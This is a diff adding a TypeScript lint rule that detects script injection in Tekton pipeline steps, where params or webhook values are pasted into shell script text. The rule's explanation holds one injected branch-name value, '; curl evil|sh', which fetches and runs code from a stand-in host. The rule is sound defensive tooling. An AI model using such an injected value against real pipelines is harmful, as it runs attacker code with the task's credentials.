@@ -1,0 +1,56 @@
+import { exampleOf } from '../example';
+import { shellPrograms } from '../model/containers';
+import type { ContainerView } from '../model/containers';
+import { valueAt } from '../model/path';
+import type { Rule } from '../rule';
+import type { ParamSpec, StepAction } from '../schema/tekton-types';
+import { eachContainer } from '../visit';
+
+/** Values that come from elsewhere: paths and names that Tekton makes itself are none. */
+const FOREIGN = /\$\(((?:params|tasks|finally|steps)(?:\.|\[)[^()\n]*)\)/g;
+
+/** Variables of Pipelines as Code: text of a webhook, put into the YAML before anything reads it. */
+const WEBHOOK = /\{\{\s*((?:source_branch|target_branch|sender|source_url|pull_request_labels|trigger_comment|git_tag|body\b|headers\b)[^{}]*?)\s*\}\}/g;
+
+export const scriptInjection: Rule = {
+  id: 'security/script-injection',
+  severity: 'error',
+  stage: 'none',
+  summary: 'values of params and results reach a program by env, never as part of its text',
+  reason: 'Tekton puts the value into the script as it is: a branch called "; curl evil|sh" is executed, with the credentials of the Task',
+  source: 'https://tekton.dev/docs/pipelines/tasks/#running-scripts-within-steps; CWE-94',
+  fix: 'add env: [{name: VALUE, value: $(params.<name>)}] and write "$VALUE" in the script',
+  passing: exampleOf('Task', 'params: [{name: branch}]\nsteps: [{name: build, image: busybox, env: [{name: BRANCH, value: $(params.branch)}], script: \'git checkout "$BRANCH"\'}]'),
+  failing: exampleOf('Task', 'params: [{name: branch}]\nsteps: [{name: build, image: busybox, script: git checkout $(params.branch)}]'),
+  check: eachContainer((view, { document, report }) => {
+    const params = paramsOf(view, document.decodedAs<StepAction>('StepAction'));
+    for (const { text, path } of shellPrograms(view)) {
+      const [found] = [...text.matchAll(FOREIGN)].filter(([, inner]) => isFree(inner, params));
+      if (found) report(path, { message: `${view.label} has '${found[0]}' in the text of a program`, fix: fixFor(found[1]) });
+      if (found || !isPipelineAsCode(document.source)) continue;
+      const [webhook] = text.matchAll(WEBHOOK);
+      if (webhook) report(path, { message: `${view.label} has '${webhook[0]}', which a webhook decides, in the text of a program` });
+    }
+  }),
+};
+
+function paramsOf(view: ContainerView, action: StepAction | undefined): readonly ParamSpec[] {
+  return view.kind === 'StepAction' ? action?.spec?.params ?? [] : view.task?.params ?? view.task?.spec.params ?? [];
+}
+
+/** Tells whether anything may stand for a variable: not of a path, and not of a param with an enum. */
+function isFree(inner: string, params: readonly ParamSpec[]): boolean {
+  if (/\.path$|\.exitCode/.test(inner) && !inner.startsWith('params')) return false;
+  const name = /^params(?:\.([^.[\]]+)|\[["']([^"']+)["']\])/.exec(inner)?.slice(1).find((part) => part !== undefined);
+  return !params.find((param) => param.name === name)?.enum?.length;
+}
+
+function fixFor(inner: string): string {
+  const name = (inner.split(/[^A-Za-z0-9]+/).filter(Boolean).at(-1) ?? 'value').toUpperCase();
+  return `add env: [{name: ${name}, value: "$(${inner})"}] and write "$${name}" in the script`;
+}
+
+function isPipelineAsCode(source: unknown): boolean {
+  const annotations = valueAt(source, 'metadata.annotations');
+  return Object.keys(typeof annotations === 'object' && annotations !== null ? annotations : {}).some((name) => name.startsWith('pipelinesascode.tekton.dev/'));
+}
